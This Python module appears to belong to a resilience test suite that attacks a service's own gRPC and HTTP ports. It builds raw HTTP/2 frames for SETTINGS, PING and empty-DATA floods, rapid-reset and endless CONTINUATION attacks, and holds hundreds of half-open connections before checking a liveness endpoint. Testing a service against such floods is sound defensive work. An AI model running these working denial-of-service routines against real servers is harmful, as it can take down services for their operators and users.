"""Connections that speak HTTP/2, or HTTP, as no client does: floods of frames, requests that never end."""

from __future__ import annotations

import asyncio
import contextlib
import struct
import time
from collections.abc import Callable

from bench.attack.target import NotHeldOffError, Target

_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_DATA, _HEADERS, _RST_STREAM, _SETTINGS, _PING, _CONTINUATION = 0, 1, 3, 4, 6, 9
_END_HEADERS = 4
_CANCEL = struct.pack(">I", 8)
_FLOOD_S = 5.0
#: Sent at once; small enough that the other side's answer can be seen between two.
_BURST = 500


def _frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """A frame of RFC 9113, section 4.1."""
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def _literal(index: int, text: bytes) -> bytes:
    """A header field of RFC 7541, section 6.2.2: a name of the static table, a value as it is."""
    return bytes((index, len(text))) + text


#: POST over http to a report; ":authority", "content-type" and "te" as gRPC wants them.
_REQUEST = (
    b"\x83\x86"
    + _literal(4, b"/fasttree.v1.ReportService/GetMember")
    + _literal(1, b"x")
    + bytes((0x0F, 0x10, 16))
    + b"application/grpc"
    + bytes((0, 2))
    + b"te"
    + bytes((8,))
    + b"trailers"
)


def _settings() -> bytes:
    return _frame(_SETTINGS, 0, 0) * _BURST


def _pings() -> bytes:
    return _frame(_PING, 0, 0, b"12345678") * _BURST


def _empty_data() -> bytes:
    return _frame(_DATA, 0, 1) * _BURST


class _Resets:
    """Requests that are taken back before they can be answered."""

    def __init__(self) -> None:
        self._stream = 1

    def __call__(self) -> bytes:
        parts = []
        for _ in range(_BURST):
            parts.append(_frame(_HEADERS, _END_HEADERS, self._stream, _REQUEST))
            parts.append(_frame(_RST_STREAM, 0, self._stream, _CANCEL))
            self._stream += 2
        return b"".join(parts)


class _Continuations:
    """A header block without an end."""

    def __init__(self) -> None:
        self._begun = False

    def __call__(self) -> bytes:
        first = b"" if self._begun else _frame(_HEADERS, 0, 1, _REQUEST)
        self._begun = True
        return first + _frame(_CONTINUATION, 0, 1, _literal(1, b"y" * 100)) * _BURST


async def _flood(address: str, begin: Callable[[], Callable[[], bytes]], seconds: float) -> int:
    """One connection after another, each as full of frames as the other side takes.

    `begin` gives what makes the next burst of a connection. Returns how many bytes were sent."""
    host, _, port = address.rpartition(":")
    deadline = time.monotonic() + seconds
    sent = 0
    while time.monotonic() < deadline:
        burst = begin()
        try:
            reader, writer = await asyncio.open_connection(host, int(port))
        except OSError as error:
            raise NotHeldOffError(f"{address} takes no connection: {error}") from None
        drain = asyncio.create_task(reader.read(-1))
        with contextlib.suppress(OSError):
            writer.write(_PREFACE + _frame(_SETTINGS, 0, 0))
            while time.monotonic() < deadline and not reader.at_eof() and not drain.done():
                data = burst()
                writer.write(data)
                # A peer that doesn't read on ends the flood by itself.
                await asyncio.wait_for(writer.drain(), 1)
                sent += len(data)
        drain.cancel()
        writer.transport.abort()
        await asyncio.gather(drain, return_exceptions=True)
    return sent


async def _floods(target: Target, begin: Callable[[], Callable[[], bytes]]) -> str:
    """Every port, one after another."""
    told = []
    for name, address in target.grpc_addresses().items():
        with contextlib.suppress(TimeoutError):
            sent = await _flood(address, begin, _FLOOD_S * target.scale)
            told.append(f"{name} {sent / 1e6:.0f} MB")
    return ", ".join(told)


async def settings_flood(target: Target) -> str:
    """SETTINGS frames, each of which wants an answer, on one connection to each port."""
    return await _floods(target, lambda: _settings)


async def ping_flood(target: Target) -> str:
    """PING frames likewise."""
    return await _floods(target, lambda: _pings)


async def empty_data_flood(target: Target) -> str:
    """DATA frames of nothing, on a stream that was never opened."""
    return await _floods(target, lambda: _empty_data)


async def rapid_resets(target: Target) -> str:
    """Requests that are taken back at once."""
    return await _floods(target, _Resets)


async def endless_headers(target: Target) -> str:
    """CONTINUATION frames without an end."""
    return await _floods(target, _Continuations)


async def idle_connections(target: Target) -> str:
    """Half a request to each HTTP port, nothing at all to each gRPC port, by the hundreds, and held."""
    addresses = [(address, b"GET /metr") for address in target.http_addresses().values()]
    addresses += [(address, b"") for address in target.grpc_addresses().values()]
    opened = []
    for address, begin in addresses:
        host, _, port = address.rpartition(":")
        for _ in range(target.count(300)):
            try:
                _, writer = await asyncio.open_connection(host, int(port))
            except OSError:
                break
            writer.write(begin)
            opened.append(writer)
    try:
        for name, address in target.http_addresses().items():
            await _livez(name, address)
    finally:
        for writer in opened:
            writer.transport.abort()
    return f"{len(opened)} held"


async def _livez(name: str, address: str) -> None:
    """Raises NotHeldOffError where a process does not say that it lives."""
    host, _, port = address.rpartition(":")
    reader, writer = await asyncio.open_connection(host, int(port))
    writer.write(b"GET /livez HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n")
    try:
        line = await asyncio.wait_for(reader.readline(), 10)
    except TimeoutError:
        line = b"nothing within 10 s"
    writer.close()
    if b" 200 " not in line:
        raise NotHeldOffError(f"/livez of {name} says {line.decode(errors='replace')!r}")


ATTACKS = (settings_flood, ping_flood, empty_data_flood, rapid_resets, endless_headers, idle_connections)
